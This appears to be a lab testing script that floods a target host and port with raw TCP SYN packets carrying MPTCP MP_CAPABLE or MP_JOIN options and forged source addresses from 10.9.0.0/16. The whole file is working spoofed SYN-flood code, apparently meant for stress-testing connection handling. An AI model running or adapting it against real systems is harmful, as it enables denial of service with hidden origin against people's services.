#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Sends SYNs with forged sources, as fast as it goes.

usage: flood.py syn|join|pair COUNT DESTINATION PORT [SEED]

Sources are random ones of 10.9.0.0/16, which the lab leads nowhere.  `syn` carries
MP_CAPABLE of version 1, `join` MP_JOIN with a random token; `pair` sends a join and then a syn
from the same address and port, of which there are 300, again and again.
"""
import random
import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def main():
    kind, count, to, port = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dst = socket.inet_aton(to)
    seed = int(sys.argv[5]) if len(sys.argv) > 5 else 1
    rnd, numbers = random.Random(seed), random.Random(seed + 1)
    sent = 0
    for i in range(count):
        join = kind == "join" or (kind == "pair" and i % 2 == 0)
        if kind == "pair" and i % 600 == 0:
            rnd = random.Random(seed)
        if kind != "pair" or join:
            src = bytes([10, 9, rnd.randrange(256), rnd.randrange(1, 255)])
            port_from = rnd.randrange(1024, 65536)
        options = struct.pack("!BBHBBBBII", 2, 4, 1460, 4, 2, 8, 10, numbers.getrandbits(32), 0)
        options += struct.pack("!BBBB", 1, 3, 3, 7)
        if not join:
            options += struct.pack("!BBBB", 30, 4, 0x01, 0x01)
        else:
            options += struct.pack("!BBBBII", 30, 12, 0x10, 1, numbers.getrandbits(32),
                                   numbers.getrandbits(32))
        offset = (20 + len(options)) // 4
        header = struct.pack("!HHIIBBHHH", port_from, port,
                             numbers.getrandbits(32), 0, offset << 4, 2, 65535, 0, 0)
        tcp = header + options
        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0) + src + dst
        try:
            raw.sendto(ip + tcp, (to, 0))
            sent += 1
        except OSError:
            pass
    print("sent", sent)


main()
